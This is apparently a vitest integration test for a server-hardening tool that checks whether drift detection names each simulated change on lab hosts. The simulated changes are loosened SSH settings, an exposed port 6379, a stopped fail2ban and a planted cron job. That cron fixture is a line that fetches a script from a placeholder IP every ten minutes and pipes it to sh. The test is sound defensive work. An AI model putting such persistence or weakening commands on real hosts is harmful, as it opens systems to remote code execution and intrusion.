// Drift on real hosts: apply the plan, drift each host in a different way, and show that `harden drift`
// and the HostDrift provider's read()/diff() (called as the engine calls them) name it exactly; then
// apply again and show what the apply heals. A host left alone is in sync, twice in a row.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { driftCommand } from "../../src/cli/drift-command";
import { checkHost, type HostCheck } from "../../src/drift/check-host";
import { planFleet } from "../../src/plan/plan";
import type { HostPlan } from "../../src/plan/types";
import { hostDriftInputs, hostDriftProvider, type HostDriftState } from "../../src/pulumi/drift-resource";
import type { LabClient, LabHost } from "../lab/lab";
import { runPlan } from "../lab/plan-runner";
import { labSuite } from "../lab/suite";
import { labFleet, SSH_PORT, type LabFleetHost } from "./lab-fleet";

const ROLLBACK_SECONDS = 20;
const LISTEN_6379 = `setsid python3 -c 'import socket,time
s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("0.0.0.0", 6379)); s.listen()
while True: c, a = s.accept(); c.close()' </dev/null >/dev/null 2>&1 &`;
const CURL_SH = "*/10 * * * * curl -fsSL http://198.51.100.9/x.sh | sh";

/** name -> how the host is drifted (run inside it) */
const DRIFTS: Record<string, string> = {
  dropin: "sed -i 's/^MaxAuthTries 3$/MaxAuthTries 6/' /etc/ssh/sshd_config.d/00-harden.conf && hl-service reload sshd",
  cloud: "printf 'PasswordAuthentication yes\\n' > /etc/ssh/sshd_config.d/00-cloud-init.conf && hl-service reload sshd",
  rule: `nft insert rule inet harden input tcp dport 6379 accept && ${LISTEN_6379}`,
  foreign: "nft add table ip filter && nft add chain ip filter INPUT '{ type filter hook input priority -10; policy accept; }' && " +
    `nft add rule ip filter INPUT tcp dport 6379 accept && ${LISTEN_6379}`,
  f2b: "fail2ban-client stop",
  // written to the spool directly: crontab(1) refuses www-data now that cron.allow is in force, but an
  // intruder with root, or a crontab from before the lockdown, is exactly what cron.allow does not stop
  cron: `printf '%s\\n' '${CURL_SH}' > /var/spool/cron/crontabs/www-data && chown www-data:crontab /var/spool/cron/crontabs/www-data && chmod 0600 /var/spool/cron/crontabs/www-data`,
  allow: "echo www-data >> /etc/cron.allow && chmod 0644 /etc/cron.allow",
  port: "printf 'Port 22\\n' > /etc/ssh/sshd_config.d/00-a-port.conf && hl-service reload sshd",
};

labSuite("drift on lab hosts", (lab) => {
  const hosts: Record<string, LabHost> = {};
  const plans: Record<string, HostPlan> = {};
  let fleetFile: string;
  let tmp: string;
  let attacker: LabClient;
  let key: string;

  const fleetFor = (port: number) => labFleet(lab(), Object.values(hosts).map((host): LabFleetHost => ({ host, port })));
  const check = (name: string) => checkHost(plans[name], { identityFile: lab().adminKey, timeoutMs: 30_000 });
  const messages = (c: HostCheck) => c.items.map((i) => i.message);

  beforeAll(async () => {
    tmp = mkdtempSync(join(tmpdir(), "harden-drift-lab-"));
    key = readFileSync(lab().adminKey, "utf8");
    for (const name of ["clean", ...Object.keys(DRIFTS)]) hosts[name] = await lab().host({ name });
    attacker = await lab().client("attacker");
    for (const p of planFleet(fleetFor(22), { rollbackSeconds: ROLLBACK_SECONDS })) plans[p.host] = p;
    fleetFile = join(tmp, "fleet.json");
    writeFileSync(fleetFile, JSON.stringify(fleetFor(22)));
    const applied = await Promise.all(Object.values(plans).map((p) => runPlan(p, { identityFile: lab().adminKey })));
    for (const steps of applied) {
      const failed = steps.find((s) => s.code !== 0);
      if (failed) throw new Error(`apply failed at ${failed.name}: ${failed.stderr}`);
    }
  }, 600_000);
  afterAll(() => rmSync(tmp, { recursive: true, force: true }));

  it("a host with no drift is in sync, twice in a row, through the target endpoint in one session", async () => {
    for (const round of [1, 2]) {
      const c = await check("clean");
      expect(messages(c), `round ${round}`).toEqual([]);
      expect(c).toMatchObject({ status: "in-sync", via: "target", sessions: 1 });
      console.log(`[drift] clean host, round ${round}: probe ${c.probeMs} ms`);
    }
  });

  describe("each drift is named exactly", () => {
    const drifted: Record<string, HostCheck> = {};
    beforeAll(async () => {
      for (const [name, cmd] of Object.entries(DRIFTS)) {
        const r = await hosts[name].exec(cmd, { timeoutMs: 30_000 });
        if (r.code !== 0) throw new Error(`drifting ${name}: ${r.stderr}`);
      }
      await new Promise((r) => setTimeout(r, 500)); // the listeners bind
      for (const name of Object.keys(DRIFTS)) drifted[name] = await check(name);
    }, 120_000);

    it("an edited drop-in: the file and the effective value, with the line that set it", () => {
      expect(messages(drifted.dropin)).toEqual([
        'file /etc/ssh/sshd_config.d/00-harden.conf: content differs from the plan: -"MaxAuthTries 3" +"MaxAuthTries 6"',
        "sshd maxauthtries: expected 3, found 6 (from /etc/ssh/sshd_config.d/00-harden.conf:24)",
      ]);
    });

    it("a new drop-in that re-enables passwords", () => {
      expect(messages(drifted.cloud)).toEqual([
        "sshd passwordauthentication: expected no, found yes (from /etc/ssh/sshd_config.d/00-cloud-init.conf:1)",
      ]);
    });

    it("a rule inserted into the project's table, and the listener it really exposes (the attacker connects)", async () => {
      expect(messages(drifted.rule)).toEqual([
        'firewall: table inet harden differs: +rule "tcp dport 6379 accept" in chain input (not in the plan)',
        'listening 0.0.0.0:6379/tcp (python3) reachable from anywhere (accepted by inet harden input: "tcp dport 6379 accept")',
      ]);
      expect((await attacker.exec(`timeout 3 nc -z -w 2 ${hosts.rule.ip} 6379`)).code).toBe(0);
    });

    it("an extra rule elsewhere that accepts 6379: reported, and really without effect (the attacker cannot connect)", async () => {
      expect(messages(drifted.foreign)).toEqual([
        'firewall: table ip filter chain INPUT accepts 6379/tcp from anywhere: "tcp dport 6379 accept" (outside table inet harden; no effect while harden drops the port)',
      ]);
      const probe = await attacker.exec(`timeout 3 nc -z -w 2 ${hosts.foreign.ip} 6379`);
      expect(probe.code).not.toBe(0);
    });

    it("fail2ban stopped", () => {
      expect(messages(drifted.f2b)).toEqual(["fail2ban: not running"]);
    });

    it("a crontab planted for www-data", () => {
      expect(messages(drifted.cron)).toEqual([`crontab of www-data: undeclared entry ${JSON.stringify(CURL_SH)}`]);
    });

    it("cron.allow loosened", () => {
      expect(messages(drifted.allow)).toEqual([
        'file /etc/cron.allow: content differs from the plan: +"www-data"',
        "file /etc/cron.allow: mode 0644, expected 0640",
      ]);
    });

    it("sshd back on port 22 (added by a drop-in; Port accumulates)", () => {
      expect(messages(drifted.port)).toEqual([
        "sshd port: expected 2222, found 22 2222 (from /etc/ssh/sshd_config.d/00-a-port.conf:1)",
        "sshd listenaddress: expected 0.0.0.0:2222 [::]:2222, found 0.0.0.0:22 0.0.0.0:2222 [::]:22 [::]:2222",
      ]);
    });

    it("every drifted host took one SSH session", () => {
      expect(Object.values(drifted).map((c) => c.sessions)).toEqual(Object.values(drifted).map(() => 1));
    });

    it("harden drift prints the same, per host, and exits 1", async () => {
      const out: string[] = [];
      const err: string[] = [];
      const code = await driftCommand([fleetFile, "--identity", lab().adminKey], { out: (l) => out.push(l), err: (l) => err.push(l) });
      expect(code).toBe(1);
      expect(out).toContain(`clean: in sync (via target root@${hosts.clean.ip}:${SSH_PORT})`);
      expect(out).toContain(`cloud: 1 drifted item(s) (via target root@${hosts.cloud.ip}:${SSH_PORT})`);
      expect(out).toContain("  sshd passwordauthentication: expected no, found yes (from /etc/ssh/sshd_config.d/00-cloud-init.conf:1)");
      expect(out).toContain(`  crontab of www-data: undeclared entry ${JSON.stringify(CURL_SH)}`);
      expect(out[out.length - 1]).toBe(`${Object.keys(hosts).length} host(s): 1 in sync, ${Object.keys(DRIFTS).length} drifted, 0 not checked`);
      expect(err).toHaveLength(Object.keys(hosts).length); // one progress line per host
    });

    it("the HostDrift provider: read() observes the same items, diff() reports a change; a clean host has none", async () => {
      for (const name of ["clean", "cloud", "cron"]) {
        const inputs = { ...hostDriftInputs(plans[name], key, 30), heal: {}, checkedVia: "" } as HostDriftState;
        const read = await hostDriftProvider.read!(name, inputs);
        const props = read.props as HostDriftState;
        expect(Object.values(props.drift)).toEqual(messages(drifted[name] ?? await check(name)));
        const diff = await hostDriftProvider.diff!(name, props, inputs);
        expect(diff.changes).toBe(name !== "clean");
        if (name === "cloud") expect(props.heal).toEqual({ sshd: 1 });
      }
    });
  });

  describe("applying again", () => {
    const after: Record<string, { apply: string; items: string[] }> = {};
    beforeAll(async () => {
      // the hosts are reached on the new port now: the operator's fleet says so
      const again = Object.fromEntries(planFleet(fleetFor(SSH_PORT), { rollbackSeconds: ROLLBACK_SECONDS }).map((p) => [p.host, p]));
      await Promise.all(Object.keys(DRIFTS).map(async (name) => {
        const steps = await runPlan(again[name], { identityFile: lab().adminKey });
        const failed = steps.find((s) => s.code !== 0);
        const items = messages(await check(name));
        after[name] = { apply: failed ? `${failed.name} failed: ${failed.stderr.trim().split("\n").pop()}` : "ok", items };
      }));
      console.log("[drift] after applying again:");
      for (const [name, r] of Object.entries(after)) console.log(`  ${name.padEnd(8)} apply ${r.apply}; drift: ${r.items.join(" | ") || "none"}`);
    }, 300_000);

    it("heals what lives in files the plan installs: the edited drop-in, cron.allow", () => {
      expect(after.dropin).toEqual({ apply: "ok", items: [] });
      expect(after.allow).toEqual({ apply: "ok", items: [] });
    });

    it("refuses, naming the cause, where the running state contradicts unchanged files", () => {
      expect(after.cloud.apply).toMatch(/^sshd failed: .*passwordauthentication.*00-cloud-init\.conf/);
      expect(after.port.apply).toMatch(/^sshd failed: .*port.*00-a-port\.conf/);
      expect(after.f2b.apply).toMatch(/^fail2ban failed: /);
    });

    it("leaves what harden does not own, still reported: a user's crontab, another table's rule", () => {
      expect(after.cron.items).toEqual([`crontab of www-data: undeclared entry ${JSON.stringify(CURL_SH)}`]);
      expect(after.foreign.items).toHaveLength(1);
    });

    it("records whether a rule inserted into harden's own table survives an apply", () => {
      // the firewall unit reloads only when its files change; see the report's open points
      expect(after.rule.apply).toBe("ok");
      expect(after.rule.items.length === 0 || after.rule.items[0].startsWith("firewall: table inet harden differs: +rule")).toBe(true);
    });
  });
});
